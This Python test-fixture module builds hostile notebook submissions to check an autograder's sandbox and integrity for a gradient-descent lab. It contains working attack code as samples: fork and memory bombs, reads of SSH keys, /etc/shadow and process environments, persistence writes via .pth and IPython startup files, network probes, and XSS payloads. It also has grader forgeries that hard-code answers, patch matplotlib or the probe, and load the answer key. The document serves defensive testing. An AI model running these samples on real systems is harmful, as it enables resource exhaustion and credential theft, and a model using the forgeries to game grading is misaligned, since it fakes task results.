"""Hostile sample notebooks (issue 7): attacks on the sandbox, the probe and the loader.

DO NOT run these outside the grader's sandbox: some are fork and memory bombs. They are
short on purpose. Where grading should survive the attack, the notebook first computes the
right answer with `SOLUTION` (the lab's five methods without the error-surface figures, same
float32 arithmetic) so the verdict shows that the attack did not cost the learner the score.
Where the attack is a forgery, the forged numbers are in the notebook so the grader can be
shown to catch it. Marker strings (`mbgd-hostile-...`) let tests look for traces of an attack
(a file written, a connection made, a process left behind, unescaped HTML).
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import nbformat
from lab_blocks import Cell, code

from reference import expected

REF = expected()  # the seed-1 answers a forger would paste in
REF20 = repr(REF["LOSS20"])

SOLUTION = [
    code(
        """
        # Compact correct solution (same arithmetic as the lab, no error-surface figures)
        import torch
        import matplotlib.pyplot as plt
        from torch.utils.data import Dataset, DataLoader

        torch.manual_seed(1)
        X = torch.arange(-3, 3, 0.1).view(-1, 1)
        f = 1 * X - 1
        Y = f + 0.1 * torch.randn(X.size())
        """
    ),
    code(
        """
        def forward(x):
            return w * x + b

        def criterion(yhat, y):
            return torch.mean((yhat - y) ** 2)

        class Data(Dataset):
            def __init__(self):
                self.x = torch.arange(-3, 3, 0.1).view(-1, 1)
                self.y = 1 * X - 1

            def __getitem__(self, index):
                return self.x[index], self.y[index]

            def __len__(self):
                return self.x.shape[0]

        def step(loss, lr=0.1):
            loss.backward()
            w.data = w.data - lr * w.grad.data
            b.data = b.data - lr * b.grad.data
            w.grad.data.zero_()
            b.grad.data.zero_()

        def train(batch_size, epochs=10):
            global w, b
            w = torch.tensor(-15.0, requires_grad=True)
            b = torch.tensor(-10.0, requires_grad=True)
            losses = []
            loader = DataLoader(dataset=Data(), batch_size=batch_size)
            for epoch in range(epochs):
                losses.append(criterion(forward(X), Y).tolist())
                for x, y in loader:
                    step(criterion(forward(x), y))
            return losses
        """
    ),
    code(
        """
        w = torch.tensor(-15.0, requires_grad=True)
        b = torch.tensor(-10.0, requires_grad=True)
        LOSS_BGD = []
        for epoch in range(10):
            loss = criterion(forward(X), Y)
            LOSS_BGD.append(loss)
            step(loss)

        LOSS_SGD = train(1)
        LOSS_MINI5 = train(5)
        LOSS_MINI10 = train(10)
        LOSS20 = train(20)
        """
    ),
    code(
        """
        plt.plot(LOSS_BGD, label="Batch gradient descent")
        plt.plot(LOSS_SGD, label="Stochastic gradient descent")
        plt.plot(LOSS_MINI5, label="Mini-batch, batch size 5")
        plt.plot(LOSS_MINI10, label="Mini-batch, batch size 10")
        plt.plot(LOSS20, label="Mini-batch, batch size 20")
        plt.legend()
        plt.show()
        """
    ),
]


def after_solution(*attack: str) -> list[Cell]:
    return [*SOLUTION, *(code(text) for text in attack)]


def only(*attack: str) -> list[Cell]:
    return [code(text) for text in attack]


# --- resources and process control --------------------------------------------------------

FORK_BOMB = """
# Fork bomb: every process forks forever
import os
while True:
    os.fork()
"""

MEMORY_BOMB = """
# Memory bomb: ask for 40 GB at once, then grow by touched 256 MB blocks forever
import numpy as np
try:
    huge = np.ones(40 * 2**30 // 8)
except MemoryError:
    pass
hog = []
while True:
    hog.append(b"x" * 2**28)
"""

MEMFD_BOMB = """
# Memory no process holds: anonymous files (memfd), each under the file-size limit, kept open
import os
held = []
for _ in range(100):  # 100 x 60 MB = 6 GB, three times the kernel's memory budget
    fd = os.memfd_create("mbgd-hostile-memfd")
    os.posix_fallocate(fd, 0, 60 << 20)
    held.append(fd)
"""

SYSV_SHM_BOMB = """
# Memory no process holds: System V shared memory segments, touched, then detached
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
for _ in range(24):  # 24 x 256 MB = 6 GB
    segment = libc.shmget(0, 256 << 20, 0o1600)  # IPC_PRIVATE | IPC_CREAT | 0600
    if segment < 0:
        break
    address = libc.shmat(segment, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        break
    ctypes.memset(address, 1, 256 << 20)
    libc.shmdt(address)
"""

CHILDREN_MEMORY = """
# Memory spread over children, each under the per-process address-space limit
import os, time
children = []
for _ in range(6):  # 6 x 1.5 GB = 9 GB in all
    pid = os.fork()
    if pid == 0:
        block = bytearray(1536 << 20)  # touched: every page is written
        time.sleep(20)
        os._exit(0)
    children.append(pid)
time.sleep(6)
for pid in children:
    try:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    except OSError:
        pass
"""

USERNS_TMPFS = """
# Capabilities back through a new user namespace, then a tmpfs of any size to fill
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
    USERNS = "refused: " + os.strerror(ctypes.get_errno())
else:
    USERNS = "entered"
    os.makedirs("/tmp/mbgd-hostile-big", exist_ok=True)
    if libc.mount(b"none", b"/tmp/mbgd-hostile-big", b"tmpfs", 0, b"size=64g") == 0:
        USERNS = "mounted"
        for index in range(24):  # 24 x 256 MB = 6 GB
            with open(f"/tmp/mbgd-hostile-big/{index}", "wb") as out:
                for _ in range(4):
                    out.write(b"x" * (64 << 20))
print(USERNS)
"""

CPU_SPIN = """
# Spin the CPU at top level, forever
while True:
    pass
"""

CPU_SPIN_THREAD = """
# Spin the CPU in a background thread that never ends (the cell itself returns)
import threading

def spin():
    while True:
        pass

threading.Thread(target=spin, daemon=False).start()
"""

INTERRUPT_CATCHER = """
# An infinite loop that swallows KeyboardInterrupt, so interrupting the kernel does not help
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        print("nice try")
"""

SLEEP_FOREVER = """
# Sleep forever (no CPU use, so only a wall-clock limit stops it)
import time
time.sleep(10**9)
"""

OS_EXIT = """
# Leave without a word: the kernel process exits immediately
import os
os._exit(0)
"""

SYS_EXIT = """
# sys.exit in a cell (IPython turns it into an error; the kernel should survive)
import sys
sys.exit("mbgd-hostile: leaving")
"""

SIGKILL_SELF = """
# SIGKILL our own kernel process
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
"""

OUTPUT_FLOOD = """
# Flood the output: about 300 MB of text
chunk = "mbgd-hostile-flood " * 55000  # ~1 MB
for _ in range(300):
    print(chunk)
"""

BACKGROUND = """
# Leave things running after the kernel is gone: a child in its own session that ignores
# SIGTERM/SIGHUP, a double-forked daemon, and a non-daemon thread. Marker: 86401 seconds.
import os, signal, subprocess, threading, time
subprocess.Popen(
    ["sh", "-c", "trap '' TERM HUP; exec sleep 86401"],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        os.execvp("sleep", ["sleep", "86401"])
    os._exit(0)
threading.Thread(target=time.sleep, args=(86401,), daemon=False).start()
print("left behind: pids", os.getpid())
"""

# --- odd answers -----------------------------------------------------------------------------

MILLION = """
# A million-element LOSS20 (the first 10 are the right ones)
LOSS20 = LOSS20 + [0.0] * 999_990
len(LOSS20)
"""

NAN = """
LOSS20 = [float("nan")] * 10
"""

INF = """
LOSS20 = [float("inf")] * 10
"""

STRINGS = f"""
# The right numbers, as strings
LOSS20 = [str(v) for v in {REF20}]
"""

GENERATOR = f"""
# The right numbers, as a generator (reading it would consume it)
LOSS20 = (v for v in {REF20})
"""

LEN_RAISES = f"""
# An object whose len() raises and whose iteration yields the right numbers
class Sneaky:
    def __len__(self):
        raise RuntimeError("mbgd-hostile: no len for you")

    def __iter__(self):
        return iter({REF20})

LOSS20 = Sneaky()
"""

ITER_LIES = f"""
# A list that holds zeros but iterates (and measures) as the right numbers
class Liar(list):
    def __iter__(self):
        return iter({REF20})

    def __len__(self):
        return 10

LOSS20 = Liar([0.0] * 3)
"""

META_TENSOR = """
# A tensor with no data at all
import torch
LOSS20 = torch.zeros(10, device="meta")
"""

# --- forgeries -------------------------------------------------------------------------------

HARD_CODED = f"""
# The seed-1 answer typed in
import matplotlib.pyplot as plt
LOSS20 = {REF20}
plt.plot(LOSS20, label="batch size 20")
plt.legend()
plt.show()
"""

PATCH_MATPLOTLIB = f"""
# Draw five flat lines, then make matplotlib report the reference curves as their data
import matplotlib.pyplot as plt
from matplotlib.lines import Line2D

FORGED = {json.dumps(REF)}
real_get_ydata = Line2D.get_ydata

def forged_get_ydata(self, orig=True):
    return FORGED.get(self.get_label(), real_get_ydata(self, orig))

Line2D.get_ydata = forged_get_ydata
for name in FORGED:
    plt.plot([0.0] * 10, label=name)
plt.legend()
plt.show()
"""

PATCH_JSON = f"""
# Compute nothing; rewrite LOSS20 in anything serialised to JSON on its way out
import json
LOSS20 = [0.0] * 10
real_dumps = json.dumps

def forge(obj):
    if isinstance(obj, dict):
        return {{k: ({REF20} if k in ("LOSS20", "values") else forge(v)) for k, v in obj.items()}}
    return obj

json.dumps = lambda obj, *args, **kwargs: real_dumps(forge(obj), *args, **kwargs)
"""

PATCH_BUILTINS = """
# After computing the right answer, break the builtins everyone (the probe too) relies on
import builtins

def broken(*args, **kwargs):
    raise RuntimeError("mbgd-hostile: builtins are gone")

builtins.len = broken
builtins.isinstance = broken
builtins.float = broken
"""

PATCH_PROBE = f"""
# Find the grader's probe through IPython's post_run_cell callbacks and publish a forged
# LOSS20 with its own `send` (no training at all)
import types

def find(fn, name, seen=None):
    seen = seen if seen is not None else set()
    if not isinstance(fn, types.FunctionType) or id(fn) in seen:
        return None
    seen.add(id(fn))
    if fn.__name__ == name:
        return fn
    for cell in fn.__closure__ or ():
        try:
            found = find(cell.cell_contents, name, seen)
        except ValueError:
            continue
        if found:
            return found
    return None

ip = get_ipython()
senders = [find(cb, "send") for cb in ip.events.callbacks["post_run_cell"]]
sent = 0
for send in filter(None, senders):
    send("variables", {{"set": {{"LOSS20": {{"type_name": "list", "values": {REF20},
                                         "length": 10}}}}, "deleted": []}})
    sent += 1
print("forged records sent:", sent)
"""

SEED_PINNING = """
# Defeat a re-run with another seed: re-seed the default generator directly, not through
# torch.manual_seed, then compute the answer honestly for seed 1
import torch
torch.default_generator.manual_seed(1)
Y = f + 0.1 * torch.randn(X.size())
LOSS_BGD = []
w = torch.tensor(-15.0, requires_grad=True)
b = torch.tensor(-10.0, requires_grad=True)
for epoch in range(10):
    loss = criterion(forward(X), Y)
    LOSS_BGD.append(loss)
    step(loss)
LOSS_SGD, LOSS_MINI5, LOSS_MINI10, LOSS20 = train(1), train(5), train(10), train(20)
"""

# --- reading, writing, network ---------------------------------------------------------------

READ_ENVIRON = """
# Read environments we should not see: pid 1, our parent, ourselves; keep them as numbers
import os
LEAK = []
for path in ["/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/self/environ"]:
    try:
        with open(path, "rb") as handle:
            LEAK.extend(handle.read(4000))
    except OSError as error:
        print(path, error)
LEAK.extend(repr(sorted(os.environ.items())).encode()[:4000])
print(bytes(LEAK[:2000]))
"""

READ_FILES = """
# Read secrets and the harness's own files; keep what we got as numbers
import glob, os
LEAK = []
paths = [
    os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/.ssh/id_ed25519"),
    "/root/.ssh/id_rsa", "/root/.ssh/authorized_keys", "/etc/shadow",
    "/work/main/grader/execution/sandbox.py", "/work/main/grader/pipeline.py", "/work/main/.git/config",
    "/proc/self/mounts", "/proc/1/cmdline",
]
paths += glob.glob("/work/*/*.toml") + glob.glob("/work/main/*.sqlite*")
for path in paths:
    try:
        with open(path, "rb") as handle:
            data = handle.read(2000)
        print("READ", path, len(data))
        LEAK.extend(data)
    except OSError as error:
        print("no", path, type(error).__name__)
"""

OTHER_WORKDIR = """
# Look for other submissions' work dirs (ours is the cwd) and read what is in them
import glob, os
here = os.getcwd()
LEAK = []
candidates = glob.glob("/tmp/mbgd-*") + glob.glob(os.path.join(os.path.dirname(here), "*"))
for directory in candidates:
    if os.path.abspath(directory) == here:
        continue
    for path in glob.glob(os.path.join(directory, "**", "*"), recursive=True)[:50]:
        try:
            with open(path, "rb") as handle:
                LEAK.extend(handle.read(1000))
            print("READ", path)
        except OSError:
            pass
print("candidates:", candidates[:20])
"""

WRITE_OUTSIDE = """
# Write outside the work dir: project, home, shared tmp, the venv (a .pth file runs code in
# every later Python), IPython startup (runs in every later kernel). Marker: mbgd-hostile.
import os, site, sys
payload = "import os; open('/tmp/mbgd-hostile-pth-ran', 'w').write('pwned')\\n"
targets = [
    "/work/main/mbgd-hostile-pwned",
    os.path.expanduser("~/mbgd-hostile-pwned"),
    os.path.join(os.getcwd(), "..", "mbgd-hostile-pwned"),
    "/tmp/mbgd-hostile-pwned", "/var/tmp/mbgd-hostile-pwned", "/dev/shm/mbgd-hostile-pwned",
    os.path.expanduser("~/.ipython/profile_default/startup/00-mbgd-hostile.py"),
    os.path.expanduser("~/.config/matplotlib/mbgd-hostile-matplotlibrc"),
]
targets += [os.path.join(p, "mbgd-hostile.pth") for p in site.getsitepackages()]
targets.append(os.path.join(os.path.dirname(os.__file__), "mbgd-hostile-sitecustomize.py"))
WRITES = []
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(payload)
        WRITES.append(1)
        print("WROTE", path)
    except OSError as error:
        WRITES.append(0)
        print("no", path, type(error).__name__)
"""

NET_LOOPBACK = """
# Talk to whatever listens on the host's loopback (the learner cannot know the port: try a
# range). Marker sent: mbgd-hostile-loopback
import socket
NET = []
for port in range(18080, 18091):
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as sock:
                sock.settimeout(0.5)
                sock.connect((host, port))
                sock.sendall(b"mbgd-hostile-loopback\\n")
                NET.append(port)
                print("connected", host, port)
        except OSError as error:
            pass
print("connections:", NET)
"""

NET_OUTSIDE = """
# Reach the internet: a TCP connection to 1.1.1.1:80 and a DNS lookup. Only tried where the
# kernel sees no network interface but loopback (the sandbox): a kernel that does see one has
# already escaped, and this sample must never send real traffic off the machine to show it.
import socket
NET = []
interfaces = [name for _, name in socket.if_nameindex() if name != "lo"]
if interfaces:
    NET.append("interfaces: " + ",".join(interfaces))
    raise SystemExit("not sandboxed: refusing to send traffic off the machine")
try:
    with socket.create_connection(("1.1.1.1", 80), timeout=3) as sock:
        sock.sendall(b"GET / HTTP/1.0\\r\\nHost: mbgd-hostile\\r\\n\\r\\n")
        NET.append(1)
except OSError as error:
    print("tcp:", type(error).__name__, error)
try:
    NET.append(len(socket.getaddrinfo("example.com", 80)))
except OSError as error:
    print("dns:", type(error).__name__, error)
"""

XSS = """
# HTML in everything the grader might echo into feedback.html: labels, title, an error
plt.figure()
plt.plot(LOSS20, label='<script>alert("mbgd-hostile-xss")</script>')
plt.title('<img src=x onerror=alert("mbgd-hostile-xss")>')
plt.legend()
plt.show()
raise ValueError('<script>alert("mbgd-hostile-xss")</script>')
"""

FIGURE_FLOOD = """
# 600 figures of 10,000 points each: more records than the harness should accept
import numpy as np
points = np.linspace(0, 1, 10_000)
for i in range(600):
    plt.figure()
    plt.plot(points, points * i, label=f"figure {i}")
    plt.show()
"""

# --- the answer key (issue 12) ----------------------------------------------------------------

ANSWER_KEY = """
# Use the grader's own answer key if this kernel can reach it (a regular install puts it in
# site-packages): `reference.expected` gives every list for whatever seed this run uses, seed 1
# or the secret seed of an --integrity re-run. Also look for the grader's rubric, sources and
# install record. FOUND keeps the findings as byte values (the probe reports numeric lists).
import glob, importlib.metadata, json, os, site, sys
import torch
import matplotlib.pyplot as plt

torch.manual_seed(1)
found = {"imports": [], "rubric": [], "sources": [], "record": [], "packages": []}
expected = None
try:
    from reference import expected
    found["imports"].append("reference")
except Exception as error:
    print("reference:", type(error).__name__, error)
try:
    import grader
    found["imports"].append("grader")
except Exception as error:
    print("grader:", type(error).__name__, error)

def read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(200_000).decode("utf-8", "replace")
    except OSError:
        return ""

places = [p for p in sys.path if p and os.path.isdir(p)]
places += [p for p in site.getsitepackages() if os.path.isdir(p)]
for place in dict.fromkeys(places):
    for path in glob.glob(os.path.join(place, "*", "default_rubric.toml")):
        if "[[checks]]" in read(path):
            found["rubric"].append(path)
    for name in ("grader", "reference"):
        if os.path.isdir(os.path.join(place, name)):
            found["packages"].append(os.path.join(place, name))
        for path in glob.glob(os.path.join(place, name, "*.py")):
            text = read(path)
            if "def " in text or "from reference" in text or "version(" in text:
                found["sources"].append(path)
    for path in glob.glob(os.path.join(place, "*.dist-info", "RECORD")):
        lines = read(path).splitlines()
        if any(line.startswith(("grader/", "reference/", "mbgd_grader")) for line in lines):
            found["record"].append(path)
try:
    text = importlib.metadata.distribution("mbgd-grader").read_text("RECORD") or ""
    if text:
        found["record"].append("importlib.metadata: mbgd-grader RECORD")
except Exception as error:
    print("metadata:", type(error).__name__, error)

if expected is not None:
    answers = expected(seed=torch.initial_seed())
    LOSS_BGD, LOSS_SGD = answers["LOSS_BGD"], answers["LOSS_SGD"]
    LOSS_MINI5, LOSS_MINI10, LOSS20 = answers["LOSS_MINI5"], answers["LOSS_MINI10"], answers["LOSS20"]
else:  # no answer key: no training either, just numbers
    LOSS_BGD, LOSS_SGD, LOSS_MINI5, LOSS_MINI10, LOSS20 = (
        [100.0 / (k + j + 1) for k in range(10)] for j in range(5)
    )
FOUND = list(json.dumps(found, sort_keys=True).encode())[:9000]
print(found)
"""

# --- what the kernel sends back (issue 12) ----------------------------------------------------

COMM_FLOOD = """
# 160 widget comm messages, each a new widget state with a 16 MB binary buffer (2.5 GB in
# all): the kind of message a frontend keeps. The one buffer is sent again and again without
# being copied, so only the receiver pays. Marker: mbgd-hostile-comm
kernel = get_ipython().kernel
buffer = bytes(16 * 2**20)
for i in range(160):
    content = {
        "comm_id": f"mbgd-hostile-comm-{i}",
        "target_name": "jupyter.widget",
        "data": {"state": {"value": i}, "buffer_paths": [["value"]]},
    }
    kernel.session.send(
        kernel.iopub_socket, "comm_msg", content, parent=kernel.get_parent(),
        buffers=[buffer], ident=b"comm",
    )
"""

MULTIPART_FLOOD = """
# One message of 100 parts of 32 MB each (3.2 GB): ZeroMQ caps the size of each part and
# counts whole messages, so a receiver assembles all of it. Sent without copying: the kernel
# itself holds 32 MB. Marker: mbgd-hostile-multipart
import time
kernel = get_ipython().kernel
part = bytes(32 * 2**20)
kernel.session.send(
    kernel.iopub_socket, "stream", {"name": "stdout", "text": "mbgd-hostile-multipart"},
    parent=kernel.get_parent(), buffers=[part] * 100, ident=b"stream",
)
time.sleep(2)  # let it leave before the cell ends
"""

IOPUB_FLOOD = """
# A thread left running that floods iopub with small messages answering no request of the
# grader, as fast as it can, until the kernel is gone; and the kernel never says "idle"
# again, so no wait for the end of a request ends by itself. Marker: mbgd-hostile-flood
import threading
kernel = get_ipython().kernel
kernel._publish_status = lambda *args, **kwargs: None

def flood():
    parent = {"msg_id": "mbgd-hostile-flood", "msg_type": "execute_request"}
    content = {"name": "stdout", "text": "mbgd-hostile-flood\\n"}
    while True:
        kernel.session.send(kernel.iopub_socket, "stream", content, parent=parent, ident=b"s")

threading.Thread(target=flood, daemon=True).start()
"""

INPUT_CALL = """
# input() left in from working interactively: nobody will ever type an answer
epochs = int(input("How many epochs? "))
"""

KERNELSPEC_CELLS = [
    code(
        """
        # This notebook asks for a bash kernel; the grader must run Python anyway
        echo "mbgd-hostile: running as bash" && id && cat /etc/passwd
        """
    )
]


def samples(solved_lab: list[Cell]) -> dict[str, list[Cell] | bytes]:
    """Every committed hostile sample, keyed by path under submissions/."""
    del solved_lab  # the full lab is not needed: SOLUTION is the short correct answer
    return {
        "hostile/fork_bomb.ipynb": after_solution(FORK_BOMB),
        "hostile/memory_bomb.ipynb": after_solution(MEMORY_BOMB),
        "hostile/memfd_bomb.ipynb": after_solution(MEMFD_BOMB),
        "hostile/sysv_shm_bomb.ipynb": after_solution(SYSV_SHM_BOMB),
        "hostile/children_memory.ipynb": after_solution(CHILDREN_MEMORY),
        "hostile/userns_tmpfs.ipynb": after_solution(USERNS_TMPFS),
        "hostile/cpu_spin_top.ipynb": only(CPU_SPIN),
        "hostile/cpu_spin_thread.ipynb": [code(CPU_SPIN_THREAD), *SOLUTION],
        "hostile/interrupt_catcher.ipynb": after_solution(INTERRUPT_CATCHER),
        "hostile/sleep_forever.ipynb": after_solution(SLEEP_FOREVER),
        "hostile/os_exit.ipynb": only(OS_EXIT, "LOSS20 = [1.0]"),
        "hostile/sys_exit.ipynb": [code(SYS_EXIT), *SOLUTION],
        "hostile/sigkill_self.ipynb": after_solution(SIGKILL_SELF),
        "hostile/output_flood.ipynb": after_solution(OUTPUT_FLOOD),
        "hostile/background_process.ipynb": after_solution(BACKGROUND),
        "hostile/million_loss20.ipynb": after_solution(MILLION),
        "hostile/nan_loss20.ipynb": only(NAN),
        "hostile/inf_loss20.ipynb": only(INF),
        "hostile/string_loss20.ipynb": only(STRINGS),
        "hostile/generator_loss20.ipynb": only(GENERATOR),
        "hostile/len_raises.ipynb": only(LEN_RAISES),
        "hostile/iter_lies.ipynb": only(ITER_LIES),
        "hostile/meta_tensor.ipynb": only(META_TENSOR),
        "hostile/hard_coded.ipynb": only(HARD_CODED),
        "hostile/patch_matplotlib.ipynb": only(PATCH_MATPLOTLIB),
        "hostile/patch_json.ipynb": only(PATCH_JSON, "LOSS20"),
        "hostile/patch_builtins.ipynb": after_solution(PATCH_BUILTINS, "print(LOSS20)"),
        "hostile/patch_probe.ipynb": only(PATCH_PROBE),
        "hostile/seed_pinning.ipynb": [*SOLUTION[:2], code(SEED_PINNING), SOLUTION[3]],
        "hostile/read_environ.ipynb": only(READ_ENVIRON),
        "hostile/read_files.ipynb": only(READ_FILES),
        "hostile/other_workdir.ipynb": only(OTHER_WORKDIR),
        "hostile/write_outside.ipynb": only(WRITE_OUTSIDE),
        "hostile/net_loopback.ipynb": only(NET_LOOPBACK),
        "hostile/net_outside.ipynb": only(NET_OUTSIDE),
        "hostile/xss_labels.ipynb": after_solution(XSS),
        "hostile/figure_flood.ipynb": after_solution(FIGURE_FLOOD),
        "hostile/kernelspec_bash.ipynb": bash_kernel_notebook(),
        "hostile/zip_notebook.ipynb": zipped_notebook(),
        "hostile/invalid_utf8.ipynb": invalid_utf8(),
        "hostile/nbformat3.ipynb": nbformat3_notebook(),
        "hostile/non_string_source.ipynb": non_string_source(),
        "hostile/deep_nesting.ipynb": deep_nesting(),
        # the answer key (issue 12)
        "hostile/answer_key.ipynb": [code(ANSWER_KEY), SOLUTION[3]],
        # what the kernel sends back (issue 12)
        "hostile/comm_flood.ipynb": after_solution(COMM_FLOOD),
        "hostile/multipart_flood.ipynb": after_solution(MULTIPART_FLOOD),
        "hostile/iopub_flood.ipynb": after_solution(IOPUB_FLOOD),
        "hostile/input_call.ipynb": [*SOLUTION[:2], code(INPUT_CALL), *SOLUTION[2:]],
    }


# --- notebooks that are not (quite) notebooks -----------------------------------------------


def _v4_text(cells: list[Cell], metadata: dict) -> str:
    nb = nbformat.v4.new_notebook(metadata=metadata)
    for index, cell in enumerate(cells):
        new = nbformat.v4.new_code_cell(cell.source)
        new.id = f"cell-{index:03d}"
        nb.cells.append(new)
    return nbformat.writes(nb) + "\n"


PYTHON3 = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}


def bash_kernel_notebook() -> bytes:
    metadata = {
        "kernelspec": {"display_name": "Bash", "language": "bash", "name": "bash"},
        "language_info": {"name": "bash"},
    }
    return _v4_text(KERNELSPEC_CELLS, metadata).encode()


def zipped_notebook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("lab.ipynb", date_time=(2024, 1, 1, 0, 0, 0))
        archive.writestr(info, _v4_text(SOLUTION, PYTHON3))
    return buffer.getvalue()


def invalid_utf8() -> bytes:
    text = _v4_text([code('print("caf\u00e9")')], PYTHON3).encode()
    return text.replace("caf\u00e9".encode(), b"caf\xe9")  # Latin-1 byte inside UTF-8 JSON


def nbformat3_notebook() -> bytes:
    cells = [nbformat.v3.new_code_cell(input=cell.source) for cell in SOLUTION]
    nb = nbformat.v3.new_notebook(worksheets=[nbformat.v3.new_worksheet(cells=cells)])
    return (nbformat.v3.writes_json(nb) + "\n").encode()


def non_string_source() -> bytes:
    nb = json.loads(_v4_text([code("LOSS20 = []"), code("x = 1")], PYTHON3))
    nb["cells"][0]["source"] = 42
    nb["cells"][1]["source"] = {"code": "import os; os.system('id')"}
    return (json.dumps(nb, indent=1, sort_keys=True) + "\n").encode()


def deep_nesting(depth: int = 50_000) -> bytes:
    head = b'{"cells": [], "metadata": {"deep": '
    return head + b"[" * depth + b"]" * depth + b'}, "nbformat": 4, "nbformat_minor": 5}\n'


# --- too big to commit: written at test time -------------------------------------------------


def big_notebook(out: Path, megabytes: int = 100) -> None:
    """A valid notebook of about `megabytes` MB (one huge markdown cell), streamed to disk."""
    head = _v4_text([code("LOSS20 = [1.0]")], PYTHON3)
    nb = json.loads(head)
    nb["cells"].append({"cell_type": "markdown", "id": "big", "metadata": {}, "source": "@@"})
    before, after = json.dumps(nb).split('"@@"')
    line = "mbgd-hostile-big " * 60 + "\\n"
    with out.open("w", encoding="utf-8") as handle:
        handle.write(before + '"')
        for _ in range(megabytes * 2**20 // len(line) + 1):
            handle.write(line)
        handle.write('"' + after)


def many_cells(out: Path, count: int = 5000) -> None:
    """A valid notebook with thousands of tiny code cells."""
    nb = json.loads(_v4_text([code("x = 0")], PYTHON3))
    template = nb["cells"][0]
    nb["cells"] = [{**template, "id": f"c{i}", "source": f"x = {i}"} for i in range(count)]
    out.write_text(json.dumps(nb, indent=1, sort_keys=True) + "\n")


GENERATORS: dict[str, Callable[[Path], None]] = {
    "big_notebook": big_notebook,
    "many_cells": many_cells,
}
